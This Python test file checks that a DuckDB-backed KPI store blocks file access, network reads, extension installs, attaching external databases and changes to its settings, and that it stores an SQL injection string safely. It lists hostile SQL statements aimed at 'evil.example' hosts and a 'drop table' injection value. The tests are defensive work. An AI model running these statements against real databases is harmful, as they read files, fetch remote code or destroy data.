"""The database reaches no file, no host and no extension, and its settings cannot be changed."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest

from kpi.store.duckdb import Connection, connect, rows
from tests.builders import archive, observed

HOSTILE = "'; drop table statement; --"
WAYS = {
    "read_csv": "select * from read_csv('{file}')",
    "read_text": "select * from read_text('{file}')",
    "read_blob": "select * from read_blob('{file}')",
    "read_json": "select * from read_json('{file}')",
    "read_parquet": "select * from read_parquet('{file}')",
    "a file as a table": "select * from '{file}'",
    "glob": "select * from glob('{folder}/*')",
    "sniff_csv": "select * from sniff_csv('{file}')",
    "parquet_metadata": "select * from parquet_metadata('{file}')",
    "http": "select * from read_csv('http://127.0.0.1:9/x.csv')",
    "https": "select * from read_text('https://evil.example/x')",
    "s3": "select * from read_parquet('s3://evil/x')",
    "copy to": "copy (select 1) to '{folder}/out.csv'",
    "copy from": "create table t (a varchar); copy t from '{file}'",
    "export": "export database '{folder}/out'",
    "import": "import database '{folder}'",
    "attach": "attach '{folder}/other.duckdb' as other",
    "attach a path upwards": "attach '{folder}/../other.duckdb' as other",
    "attach postgres": "attach 'host=evil.example' as other (type postgres)",
    "install": "install httpfs",
    "install from a host": "install httpfs from 'http://evil.example'",
    "load": "load httpfs",
    "load a file": "load '{file}'",
    "secret": "create secret (type s3, key_id 'a', secret 'b')",
    "set external access": "set enable_external_access = true",
    "set directories": "set allowed_directories = ['{folder}']",
    "set paths": "set allowed_paths = ['{file}']",
    "set home": "set home_directory = '{folder}'",
    "set extensions": "set autoinstall_known_extensions = true",
    "set unsigned": "set allow_unsigned_extensions = true",
    "set the log's place": "set log_query_path = '{folder}/log'",
    "set the lock": "set lock_configuration = false",
    "reset": "reset enable_external_access",
    "pragma": "pragma enable_external_access",
    "a variable of Python": "select * from frame",
}


@pytest.fixture(params=["memory", "reading", "building"])
def database(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Connection]:
    path = tmp_path / "kpi.duckdb"
    if request.param == "reading":
        connect(path, read_only=False).close()
    made = connect(
        None if request.param == "memory" else path, read_only=request.param == "reading"
    )
    yield made
    made.close()


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
def test_no_way_leads_out(database: Connection, tmp_path: Path, way: str) -> None:
    frame = pa.table({"a": [1]})
    secret = tmp_path / "salaisuus.csv"
    secret.write_text("a,b\n1,2\n", encoding="utf-8")
    before = sorted(tmp_path.iterdir())
    with pytest.raises(duckdb.Error):
        database.execute(way.format(file=secret, folder=tmp_path)).fetchall()
    assert sorted(tmp_path.iterdir()) == before
    assert frame.num_rows == 1


def test_the_settings_stand_after_every_try(database: Connection) -> None:
    told = dict(
        rows(
            database,
            "select name, value from duckdb_settings() where name in "
            "('enable_external_access', 'lock_configuration', 'autoload_known_extensions', "
            "'autoinstall_known_extensions', 'allow_community_extensions')",
        )
    )
    assert told.pop("lock_configuration") == "true"
    assert set(told.values()) == {"false"} and len(told) == 4


def test_values_are_bound_and_never_part_of_a_sentence(tmp_path: Path) -> None:
    """A text that would end the sentence is stored, asked for and given back as a text."""
    kept = archive(tmp_path)
    kept.publish(observed("loans", "2025-M01", 3, remark=HOSTILE, cell=f"{HOSTILE}!B2"), by=HOSTILE)
    store = kept.open()
    found = store.rows("select remark, cell from statement where remark = ?", HOSTILE)
    assert found == [(HOSTILE, f"{HOSTILE}!B2")]
    assert store.rows("select count(*) from upload where published_by = ?", HOSTILE) == [(1,)]
